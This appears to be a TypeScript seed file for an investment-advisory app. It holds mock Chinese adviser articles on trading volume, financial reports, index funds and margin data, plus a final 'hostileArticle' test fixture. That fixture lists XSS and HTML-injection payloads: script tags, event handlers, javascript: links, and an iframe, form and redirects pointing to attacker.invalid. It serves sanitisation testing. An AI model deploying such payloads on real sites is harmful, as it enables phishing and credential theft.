import type { ArticleSeed } from './seed.ts'

/** Standalone articles of the advisers. */
export const viewArticles: readonly ArticleSeed[] = [
  {
    id: 'A201',
    title: '成交额连续放大，先看懂再说话',
    author: 'T004',
    daysAgo: 0,
    likes: 86,
    cover: 'A201',
    stocks: ['SH600901', 'SH600902', 'SZ000901', 'SH510901'],
    body: `
最近几个交易日两市成交额连续放大，#成交额# 成了群里问得最多的词。放大本身不说明方向，只说明分歧。
## 三个事实
- 成交额由价格和数量共同决定，价格上涨本身就会推高成交额
- 指数权重股的成交变化对总额影响最大
- 历史上放量之后，上涨与下跌的情形都有
## 一张对照表
| 情形 | 可能的解释 | 需要再看什么 |
| 放量上涨 | 新资金进入，也可能是换手 | 涨跌家数 |
| 放量下跌 | 集中卖出 | 板块分布 |
| 放量不动 | 分歧加大 | 持续几天 |
![近二十个交易日成交额示意](/files/articles/turnover.svg)
> 数据会说话，但它只回答你问的那个问题。
## 可以做的事
先写下自己的判断和依据，一周后回头看。延伸阅读：[股票账户里的四种余额](/article/A101)。
#量价关系# 的完整讲解在课程里，不在群聊里。`,
    comments: [
      '海边的风：第三点说得好，放量之后两种情形都有。',
      '阿May🌸：对照表收藏了。',
      '长线老张：希望出一期讲换手率。',
    ],
  },
  {
    id: 'A202',
    title: '一份食品公司的中报，读了三遍',
    author: 'T002',
    daysAgo: 1,
    likes: 143,
    cover: 'A202',
    stocks: ['SH600901'],
    body: `
第一遍看数字，第二遍看变化，第三遍看公司自己怎么解释。以下为虚构公司的读报示范，不构成任何建议。
## 第一遍：数字
收入同比增加 6.2%，净利润同比增加 1.1%。
## 第二遍：变化
| 项目 | 本期 | 上年同期 |
| 毛利率 | 31.4% | 33.0% |
| 销售费用率 | 14.2% | 12.9% |
| 经营现金流（亿元） | 3.1 | 4.6 |
### 为什么现金流下降
附注里写着：部分经销商的账期延长。
## 第三遍：解释
1. 公司说原材料涨价，查同行是否也涨
2. 公司说渠道调整，查应收账款的账龄
> 三遍之后，仍然有两个问题没有答案，那就把问题记下来。`,
    comments: ['黑咖啡不加糖☕：第三遍最难。', '木木：账龄表在附注第几页？'],
  },
  {
    id: 'A203',
    title: '停牌期间，持有人能做什么',
    author: 'T001',
    daysAgo: 2,
    likes: 51,
    stocks: ['SZ300901'],
    body: `
#停牌# 期间不能交易，但持有人并不是什么都不能做。
- 查公告：停牌原因、预计复牌时间、进展
- 看规则：同类情形的最长停牌时间
- 算影响：这部分资金短期内用不上，家里的安排是否受影响
## 复牌当天
价格可能较大波动。提前想好，不在开盘后的几分钟里做决定。`,
    comments: ['南山南：资金安排这一点以前没想过。'],
  },
  {
    id: 'A204',
    title: '指数基金的跟踪误差从哪里来',
    author: 'T003',
    daysAgo: 3,
    likes: 77,
    cover: 'A204',
    stocks: ['SH510901'],
    body: `
同一个指数，两只基金的净值为什么不一样？#指数基金# 的差别藏在四个地方。
1. 费用：每天计提，方向确定
2. 现金：应付赎回要留一部分现金
3. 复制方式：完全复制还是抽样复制
4. 分红处理：成份股分红再投入的时间差
## 怎么看
看基金定期报告里的「跟踪误差」一栏，看三年，不看三个月。`,
  },
  {
    id: 'A205',
    title: '写给第一次遇到大跌的人',
    author: 'T003',
    daysAgo: 5,
    likes: 1204,
    cover: 'A205',
    stocks: ['SH600902'],
    body: `
账户变绿的时候，人最想做的事是「做点什么」。先别急，按顺序回答四个问题。
## 四个问题
1. 这笔钱一年内要用吗？
2. 当初买入的理由还在吗？
3. 如果再跌同样多，我能承受吗？
4. 我现在的决定，是因为价格还是因为理由？
> 如果第一个问题的答案是「要用」，这笔钱本来就不应该在这里。
## 然后
把答案写在纸上，隔一天再看。需要帮助可以联系客服预约顾问。`,
    comments: ['稳一点：写在纸上这个办法有用。', '老徐：第一个问题我答错了。', '小鹿：谢谢。'],
  },
  {
    id: 'A206',
    title: '融资余额怎么读',
    author: 'T004',
    daysAgo: 6,
    likes: 45,
    body: `
融资余额上升，说明借钱买入的人多了；它不说明这些人是对的。
## 口径
- 余额：还没有还的钱
- 买入额：当天新借的钱
- 偿还额：当天还掉的钱
余额的变化等于买入额减去偿还额。看变化，也要看占流通市值的比例。`,
  },
  {
    id: 'A207',
    title: '北交所新规之后的三处变化',
    author: 'T001',
    daysAgo: 8,
    likes: 62,
    stocks: ['BJ920901'],
    body: `
规则的变化写在条文里，影响写在交易里。这里只讲条文。
### 一、申报数量
最低 100 股，超过部分以 1 股递增。
### 二、涨跌幅
30%，上市首日不设限制。
### 三、信息披露
定期报告的时间要求与沪深一致。
原文请以交易所网站为准。`,
  },
  {
    id: 'A208',
    title: '医药行业的三张时间表',
    author: 'T002',
    daysAgo: 10,
    likes: 90,
    cover: 'A208',
    stocks: ['SZ000901'],
    body: `
研发、审批、集中采购，三张时间表决定了一家医药公司的收入节奏。
| 阶段 | 通常时间 | 不确定性 |
| 临床一期 | 1–2 年 | 高 |
| 临床二期 | 2–3 年 | 高 |
| 临床三期 | 3–5 年 | 中 |
| 审批 | 1–2 年 | 中 |
时间表只是经验值，任何一步都可能停下来。#医药研发#`,
  },
  {
    id: 'A209',
    title: '为什么我们不在群里发代码',
    author: 'T005',
    daysAgo: 14,
    likes: 733,
    body: `
常有人问：老师能不能直接给个代码？不能，原因有三条。
1. 每个人的资金、期限和承受能力不一样，同一个代码对不同的人是不同的事
2. 没有依据和风险提示的建议不合规
3. 学会读，比得到一个答案有用得多
> 凡是在群里直接发代码、催你马上买入的，请先查他的资质。`,
    comments: ['退休老李：就冲这篇也要点个赞。'],
  },
  {
    id: 'A210',
    title: '长假前要不要留现金',
    author: 'T003',
    daysAgo: 21,
    likes: 38,
    body: `
长假期间境外市场照常交易，节后开盘可能有跳空。要不要留现金，取决于三件事。
- 节后一个月内有没有大额支出
- 现在的仓位是否已经超过自己定的上限
- 假期里能不能看到消息并做出反应
三个答案都是「否」，就按原来的计划办。`,
  },
  {
    id: 'A211',
    title: '# 单独一个井号与 #未闭合的话题',
    author: 'T004',
    daysAgo: 30,
    likes: 2,
    body: `
这一篇用来检查特殊写法：# 单独一个井号，#未闭合的话题，##，以及 #正常的话题# 混在一起。
价格写作 ¥1,299.00，比例写作 -3.41%，表情 🙂👨‍👩‍👧 也要能显示。
一个很长的网址：https://www.example.com/a/very/long/path/that/does/not/wrap?with=query&and=more#fragment`,
  },
]

/** The article an attacker would write: the page must show its text and nothing else of it. product §8 */
export const hostileArticle: ArticleSeed = {
  id: 'A299',
  title: '<b>标题里的标签</b>与脚本检查',
  author: 'T004',
  daysAgo: 45,
  likes: 0,
  stocks: ['SZ002901'],
  body: `
正文第一段可以正常阅读，后面是不应当生效的内容。
@@<script>window.__pwned = 1; document.title = 'pwned'</script>
@@<img src="x" onerror="window.__pwned = 2" alt="坏图片">
@@<a href="javascript:window.__pwned=3">看起来正常的链接</a>
@@<svg onload="window.__pwned=4"><a xlink:href="javascript:1"><text>svg</text></a></svg>
@@<iframe src="https://attacker.invalid/login"></iframe>
@@<form action="https://attacker.invalid/collect"><input name="mobile"><button>提交</button></form>
@@<style>body{display:none}</style><link rel="stylesheet" href="https://attacker.invalid/x.css">
@@<div id="root" name="body" style="position:fixed;inset:0;z-index:99999;background:url(https://attacker.invalid/p)">盖住页面</div>
@@<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=https://attacker.invalid/">
@@<p style="color:#c00;text-align:center">居中的红字可以保留。</p>
![一张四兆字节的大图](/files/articles/large.png)
最后一段仍然可以阅读。`,
}
